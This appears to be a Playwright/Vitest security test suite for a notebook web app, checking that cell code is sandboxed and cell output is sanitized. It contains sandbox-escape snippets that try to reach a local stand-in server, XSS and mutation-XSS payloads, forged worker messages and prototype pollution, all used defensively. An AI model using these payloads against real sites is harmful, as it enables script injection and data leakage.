import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { writeCode } from './browser.ts'
import { runCode, seeText, setRange, useFixture } from './fixture.ts'
import { forge, takeOver } from './take-over.ts'

const book = useFixture()
let page: Page
let errors: string[]
/** A stranger's server, open to all the world: whatever arrives there has got out. */
let stranger: { server: Server; url: string; asked: string[] }

beforeAll(async () => {
  stranger = await listen()
  ;({ page, errors } = await book.open())
  await takeOver(page)
  await page.evaluate(() => {
    localStorage.setItem('secret', 'stored')
    document.cookie = 'secret=baked'
    Object.assign(window, { untouched: true })
  })
})
afterAll(() => {
  stranger.server.close()
})

function listen(): Promise<typeof stranger> {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response
      .writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' })
      .end('self.imported = true')
  })
  return new Promise((done) =>
    server.listen(0, '127.0.0.1', () =>
      done({ server, asked, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` }),
    ),
  )
}

let runs = 0

/**
 * Runs code in a cell as a reader would, past the check of names: `top` is the worker's global object, got by the
 * constructor of functions, as an attacker would get it. Returns the text of the cell's output.
 */
async function attack(code: string): Promise<string> {
  const mark = `done ${++runs}`
  const body = `const top = ((x) => x).constructor('return this')()\nconst STRANGER = '${stranger.url}'\n${code}`
  const source = `await (async () => { try { return await (async () => { ${body} })() } catch (error) { return 'refused: ' + error } })().then((it) => display(String(it)))\ndisplay('${mark}')`
  // By the keyboard: the button may move under a pointer while what depends on the cell is still drawn.
  await runCode(page, 'sum', source)
  const ended = await page.waitForFunction((text) => {
    const cell = document.querySelector('#cell-sum')
    const shown = cell?.querySelector('.output')?.textContent ?? ''
    const isEnded = /^(?:failed|stopped)$/.test(cell?.getAttribute('state') ?? '')
    return shown.includes(text)
      ? 'shown'
      : isEnded && (cell?.querySelector('.failure')?.textContent ?? 'ended')
  }, mark)
  expect(await ended.jsonValue(), code).toBe('shown')
  return (await page.locator('#cell-sum .drawn').textContent()) ?? ''
}

describe('cell code and the network', () => {
  test.each([
    ['fetch', 'const r = await top.fetch(STRANGER); return "got " + r.status'],
    [
      'fetch of the site itself',
      `const r = await top.fetch(${JSON.stringify('SITE')}); return "got " + r.status`,
    ],
    [
      'XMLHttpRequest',
      'const r = new top.XMLHttpRequest(); r.open("GET", STRANGER, false); r.send(); return "got " + r.status',
    ],
    [
      'WebSocket',
      'return await new Promise((done) => { const s = new top.WebSocket(STRANGER.replace("http", "ws")); s.onopen = () => done("got in"); s.onerror = () => done("refused") })',
    ],
    [
      'EventSource',
      'return await new Promise((done) => { const s = new top.EventSource(STRANGER); s.onopen = () => done("got in"); s.onerror = () => done("refused") })',
    ],
    ['importScripts', 'top.importScripts(STRANGER + "/script.js"); return "got " + top.imported'],
    [
      'a dynamic import',
      'await top.eval("import(\'" + STRANGER + "/module.js\')"); return "got it"',
    ],
    [
      'a worker of its own',
      'const w = new top.Worker(top.URL.createObjectURL(new top.Blob(["fetch(\'" + STRANGER + "/worker\').then(() => postMessage(\'got in\'), () => postMessage(\'refused\'))"]))); return await new Promise((done) => { w.onmessage = (e) => done(e.data); w.onerror = () => done("refused") })',
    ],
    [
      'sendBeacon',
      'return top.navigator.sendBeacon(STRANGER + "/beacon", "x") ? "got it" : "refused"',
    ],
    [
      'WebTransport',
      'const t = new top.WebTransport(STRANGER.replace("http:", "https:")); await t.ready; return "got in"',
    ],
  ])('cell code cannot reach the network by %s', async (_, code) => {
    expect(await attack(code.replace('"SITE"', JSON.stringify(book.site.url)))).toMatch(/^refused/)
  })
  test('no request of cell code has reached the foreign server', () => {
    expect(stranger.asked).toEqual([])
  })
})

describe('cell code and storage', () => {
  test.each([
    ['localStorage', 'return top.localStorage ? "got it" : "refused"'],
    [
      'IndexedDB',
      'return await new Promise((done, fail) => { const r = top.indexedDB.open("x"); r.onsuccess = () => done("got it"); r.onerror = () => done("refused") })',
    ],
    ['caches', 'await top.caches.open("x"); return "got it"'],
    [
      'cookies',
      'return top.document && top.document.cookie ? "got " + top.document.cookie : "refused"',
    ],
    [
      'the cookie store',
      'return top.cookieStore ? "got " + (await top.cookieStore.getAll()).length : "refused"',
    ],
    [
      'the origin private file system',
      'await top.navigator.storage.getDirectory(); return "got it"',
    ],
  ])('cell code cannot reach storage by %s', async (_, code) => {
    expect(await attack(code)).toMatch(/^refused/)
  })
  test('cell code does not reach other pages of the site by broadcasts', async () => {
    await page.evaluate(() => {
      const heard: unknown[] = []
      const channel = new BroadcastChannel('x')
      channel.onmessage = ({ data }) => heard.push(data)
      Object.assign(window, { heard, channel })
    })
    await attack('new top.BroadcastChannel("x").postMessage("from a cell"); return "sent"')
    // What is sent later arrives later, so that there is nothing to wait for but this.
    await page.evaluate(() => new BroadcastChannel('x').postMessage('from the page'))
    await page.waitForFunction(() =>
      (window as unknown as { heard: unknown[] }).heard.includes('from the page'),
    )
    expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([
      'from the page',
    ])
    await page.evaluate(() => (window as unknown as { channel: BroadcastChannel }).channel.close())
  })
})

describe('the sanitizer of cell output', () => {
  const intrusions: [string, string][] = [
    ['an inline handler', '<img src="data:," onerror="window.untouched = false">'],
    ['a script', '<svg><script>window.untouched = false</script></svg>'],
    ['a frame', '<iframe srcdoc="<script>parent.untouched = false</script>"></iframe>'],
    ['an address that is code', '<a href="javascript:window.untouched = false" id="trap">x</a>'],
    [
      'markup that changes when it is parsed twice',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.untouched=false&gt;">',
    ],
    [
      'an element of the page’s own',
      '<nb-input kind="Slider" name="T"><input type="range"></nb-input>',
    ],
    ['a form', '<form action="/x"><button>x</button></form>'],
    ['a style sheet', '<style>body { display: none }</style><link rel="stylesheet" href="/x.css">'],
    [
      'a picture from elsewhere',
      '<img src="STRANGER/pixel.png"><svg><image href="STRANGER/pixel.svg"></image></svg><p style="background: url(STRANGER/bg.png)">x</p>',
    ],
    ['a name that the page’s scripts use', '<div id="program">{}</div><img name="getElementById">'],
    ['a refresh', '<meta http-equiv="refresh" content="0; url=STRANGER">'],
    ['a base', '<base href="STRANGER">'],
    [
      'an address in CSS, spelt with escapes',
      '<p style="background: u\\72l(STRANGER/bg)">x</p><svg><rect width="9" height="9" fill="u\\72l(STRANGER/fill.svg#a)" filter="u\\72 l(STRANGER/filter.svg#a)"></rect></svg>',
    ],
  ]
  test.each(intrusions)('%s is removed from cell output', async (_, html) => {
    await attack(
      `display({ nodeType: 1, localName: 'div', outerHTML: ${JSON.stringify(html)}.replaceAll('STRANGER', STRANGER) })`,
    )
    const left = await page.locator('#cell-sum .drawn').evaluate((drawn) => ({
      names: [
        ...drawn.querySelectorAll(
          'script, iframe, form, button, style, link, meta, base, nb-input, input, object, embed',
        ),
      ].map((it) => it.localName),
      handlers: [...drawn.querySelectorAll('*')]
        .flatMap((it) => [...it.attributes])
        .filter((it) => /^on|^name$/.test(it.name) || /javascript:/i.test(it.value))
        .map((it) => it.name),
      escapes: [...drawn.querySelectorAll('*')]
        .flatMap((it) => [...it.attributes])
        .filter((it) => it.value.includes('\\'))
        .map((it) => it.name),
      foreignIds: [...drawn.querySelectorAll('[id]')]
        .map((it) => it.id)
        .filter((id) => !id.startsWith('sum')),
    }))
    expect(left).toEqual({ names: [], handlers: [], escapes: [], foreignIds: [] })
    for (const trap of await page.locator('#cell-sum .drawn a').all())
      await trap.dispatchEvent('click')
    expect(await page.evaluate(() => (window as unknown as { untouched: boolean }).untouched)).toBe(
      true,
    )
    expect(stranger.asked).toEqual([])
  })
  test('formatting and links in cell output are kept', async () => {
    const html =
      '<p title="a <b> in words">x <b class="k">bold <i>both</i></b> <code>y</code></p><svg><a href="#sum-1"><text>link</text></a></svg>'
    await attack(`display({ nodeType: 1, localName: 'div', outerHTML: ${JSON.stringify(html)} })`)
    const drawn = page.locator('#cell-sum .drawn .html').first()
    expect(await drawn.locator('p').getAttribute('title')).toBe('a <b> in words')
    expect((await drawn.innerHTML()).replace(/ title="[^"]*"/, '')).toBe(
      html.replace(/ title="[^"]*"/, ''),
    )
  })
  test('a label in cell output does not control an input of the page', async () => {
    await attack(
      `display({ nodeType: 1, localName: 'div', outerHTML: '<label for="input-T">touch me</label>' })`,
    )
    await page.locator('#cell-sum .drawn label').click()
    expect(await page.locator('#input-T:focus').count()).toBe(0)
  })
  test('cell output cannot pose as a part of its cell', async () => {
    const parts =
      '<div class="editor"><pre><code>fake</code></pre></div><div class="toolbar">fake</div><details class="code"><p class="note">fake</p></details><p class="failure">fake</p><div class="output">fake</div>'
    await attack(`display({ nodeType: 1, localName: 'div', outerHTML: ${JSON.stringify(parts)} })`)
    await page.reload()
    await page.locator('#cell-sum .run').click()
    await page.locator('#cell-sum .drawn .toolbar').waitFor()
    expect(await page.locator('#cell-sum .drawn').innerText()).toContain('fake')
    await writeCode(page, 'sum', '6 * 7')
    expect(await page.locator('#cell-sum > .code > .editor .cm-content').count()).toBe(1)
    await page.locator('#cell-sum > .code > .toolbar > .run').click()
    await page.waitForFunction(
      () => document.querySelector('#cell-sum .drawn')?.textContent === '42',
    )
    await page.evaluate(() => Object.assign(window, { untouched: true }))
  })
  test('cell output cannot cover the page', async () => {
    await attack(
      `display({ nodeType: 1, localName: 'div', outerHTML: '<div style="position: fixed; inset: 0; z-index: 99999; background: red">over all</div>' })`,
    )
    // Whatever stands at the far corners of the window, it is not the cover.
    const covered = await page.evaluate(() =>
      [
        [5, 5],
        [innerWidth - 5, 5],
        [5, innerHeight - 5],
      ].map(([x, y]) => document.elementFromPoint(x, y)?.textContent),
    )
    expect(covered).not.toContain('over all')
    expect(await page.locator('#cell-sum .drawn').textContent()).toContain('over all')
  })
})

describe('cell code and the page', () => {
  test('cell code cannot see the page’s window, storage or address', async () => {
    expect(
      await attack(
        'return [typeof top.parent, typeof top.opener, top.origin, String(top.location).slice(0, 9)].join()',
      ),
    ).toMatch(/^undefined,undefined,null,blob:null/)
    expect(await page.evaluate(() => [localStorage.getItem('secret'), document.cookie])).toEqual([
      'stored',
      'secret=baked',
    ])
  })
  test('a forged reply is sanitized like any other output', async () => {
    const code = `top.forge = (message, send) => {
        if (message?.type === 'event' && message.event.type === 'output') {
          const evil = '<img src=x onerror="window.untouched = false">'
          message.event.outputs.push({ type: 'svg', html: evil, label: evil }, { type: 'text', text: evil, label: evil },
            { type: 'table', columns: [evil], rows: [[evil]], more: evil }, { type: 'text', text: { toString: 1 } }, { type: 'nonsense' }, 7)
          send({ type: 'event', event: { type: 'failure', cell: 'rows', run: message.event.run, failure: { message: evil, line: evil, column: evil } } })
          send({ type: evil })
          send(null)
        }
        return send(message)
      }
      setTimeout(() => { top.forge = undefined }, 50)
      return 'forged'`
    // A cell as published runs in the page, and takes nothing from the sandbox: only edited, rows can be spoken for.
    await attack(code)
    expect(await page.locator('#cell-rows .failure').count()).toBe(0)
    await runCode(page, 'rows', 'z.map((score) => ({ score }))')
    await page.waitForFunction(() => document.querySelectorAll('#cell-rows td').length === 3)
    await attack(code)
    await page.locator('#cell-rows .failure').waitFor()
    const intruders = await page
      .locator('#cell-sum .output img, #cell-rows .output img')
      .evaluateAll((all) => all.filter((it) => it.hasAttribute('onerror')).length)
    expect(intruders).toBe(0)
    expect(await page.evaluate(() => (window as unknown as { untouched: boolean }).untouched)).toBe(
      true,
    )
  })
})

describe('the page runs what the build made of the book, and nothing else', () => {
  /** Leaves a mark in the realm that it runs in: timers call back with its global object. */
  const mark = (text: string): string =>
    `setTimeout(function () { Object.assign(this, { marked: true }) })\n'${text}'`
  const isMarked = (page: Page): Promise<boolean> => page.evaluate(() => 'marked' in window)
  const drawn = (page: Page, cell: string): Promise<string | null> =>
    page.locator(`#cell-${cell} .drawn`).textContent()
  /** A value of an input goes to all cells, wherever they run. */
  async function move(page: Page, to: string, first: string): Promise<void> {
    await setRange(page, 'input-T', to)
    await seeText(page, 'nb-value', first)
  }

  test('so that an edited cell never runs there, nor after a reload with the edit saved', async () => {
    const { page } = await book.open()
    await move(page, '5', '0.400')
    await runCode(page, 'sum', mark('edited'))
    await seeText(page, '#cell-sum .drawn', 'edited')
    await move(page, '4', '0.417')
    expect(await isMarked(page)).toBe(false)
    await page.reload()
    await page.waitForSelector('#cell-sum[edited]')
    await move(page, '5', '0.400')
    expect(await drawn(page, 'sum')).toBe('1')
    expect(await isMarked(page)).toBe(false)
    await page.locator('#cell-sum .run').click()
    await seeText(page, '#cell-sum .drawn', 'edited')
    expect(await isMarked(page)).toBe(false)
    await page.context().close()
  })
  test('so that a cell which depends on an edited one does not run there either', async () => {
    const { page } = await book.open()
    await runCode(page, 'p', `const p = z.map(() => 7)\np.reduce = () => 'from the sandbox'`)
    await seeText(page, '#cell-sum .drawn', 'from the sandbox')
    await move(page, '5', '7.000')
    expect(await drawn(page, 'sum')).toBe('from the sandbox')
    await page.locator('#cell-p .reset').click()
    await seeText(page, 'nb-value', '0.400')
    await page.waitForFunction(
      () => document.querySelector('#cell-sum .drawn')?.textContent === '1',
    )
    await page.context().close()
  })
  test('so that what the store holds under any cell’s name is shown, and not run', async () => {
    const { page } = await book.open()
    await page.evaluate((source) => {
      for (const cell of ['p', 'sum', 'v-8f60b434', '__proto__', 'constructor'])
        localStorage.setItem(
          `notebook-edit:${location.pathname}#${cell}`,
          JSON.stringify({ source, original: source, code: source, body: source }),
        )
    }, mark('stored'))
    await page.reload()
    await move(page, '5', '0.400')
    expect(await drawn(page, 'sum')).toBe('1')
    expect(await isMarked(page)).toBe(false)
    await page.context().close()
  })
  test('so that forged messages change no published output, and bring no code into the page', async () => {
    const { page } = await book.open()
    await takeOver(page)
    const forging = forge(`const body = ${JSON.stringify(`${mark('forged')}
return ['forged', { p: [1] }]`)}
        const run = message?.event?.run ?? message?.run ?? 1
        const cell = { name: 'p', kind: 'cell', layout: 'column', inputs: ['z'], outputs: ['p'], shows: { kind: 'value' }, async: false, body }
        for (const name of ['p', 'rows', 'v-8f60b434', '__proto__']) {
          send({ type: 'event', event: { type: 'output', cell: name, run, outputs: [{ type: 'html', html: '<b>forged</b>', element: { nodeType: 1 } }] } })
          send({ type: 'event', event: { type: 'failure', cell: name, run, failure: { message: 'forged' } } })
          send({ type: 'accepted', run, cell: { ...cell, name } })
        }
        send({ type: 'part', part: 'kernel', script: body })
        send(message)`)
    await runCode(page, 'sum', forging)
    await seeText(page, '#cell-sum .drawn', '1')
    await move(page, '5', '0.400')
    expect(await page.locator('#cell-p .output').textContent()).not.toContain('forged')
    expect(await page.locator('#cell-rows .output').textContent()).not.toContain('forged')
    expect(await isMarked(page)).toBe(false)
    await page.context().close()
  })
  test('so that prototypes which a cell changes are its own worker’s, which is ended', async () => {
    const { page } = await book.open()
    const pollution = `const proto = Object.getPrototypeOf({})
      proto.p = 'polluted'
      Object.getPrototypeOf([]).map = () => 'polluted'
      Object.getPrototypeOf(() => {}).call = () => 'polluted'
      'done'`
    await runCode(page, 'sum', pollution)
    await page.waitForSelector('#cell-sum[state=stopped]')
    await move(page, '5', '0.400')
    expect(await page.evaluate(() => ('p' in {} ? 'polluted' : [1].map(String).join()))).toBe('1')
    await page.context().close()
  })
})

describe('the page’s content security policy', () => {
  test('the policy allows no eval, no inline scripts and no other hosts', async () => {
    const policy = await page
      .locator('meta[http-equiv="Content-Security-Policy" i]')
      .getAttribute('content')
    expect(policy).toContain("default-src 'none'")
    const scripts = /script-src ([^;]*)/.exec(policy ?? '')?.[1] ?? ''
    expect(scripts).not.toMatch(/'unsafe-inline'|'unsafe-eval'|https?:|\*/)
    // Not within `evaluate`, which the browser lets pass.
    await page.evaluate(() =>
      setTimeout(() => {
        try {
          Object.assign(window, { outcome: new Function('return "ran"')() as string })
        } catch (error) {
          Object.assign(window, { outcome: (error as Error).name })
        }
      }),
    )
    await page.waitForFunction(() => 'outcome' in window)
    expect(await page.evaluate(() => (window as unknown as { outcome: string }).outcome)).toBe(
      'EvalError',
    )
  })
  test('the policy blocks a script that is inserted into the page', async () => {
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.untouched = false'
      document.body.append(script)
    })
    expect(await page.evaluate(() => (window as unknown as { untouched: boolean }).untouched)).toBe(
      true,
    )
  })
  test('the console shows no errors except for policy violations', () => {
    expect(
      errors.filter(
        (it) => !/Content Security Policy|violates|Refused|ERR_BLOCKED_BY_CSP|javascript:/.test(it),
      ),
    ).toEqual([])
  })
})
